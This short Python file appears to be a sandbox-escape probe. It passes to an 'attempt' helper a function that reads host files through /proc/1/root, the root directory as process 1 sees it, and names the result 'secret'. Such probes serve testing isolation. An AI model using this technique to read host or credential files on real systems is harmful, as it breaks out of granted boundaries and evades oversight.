from attempt import attempt


def read_through_init(path):
    """/proc/1/root is the root directory as process 1 sees it: the host's, where /proc is the host's."""
    with open(f"/proc/1/root{path}") as secret:
        return secret.read()


attempt(read_through_init)
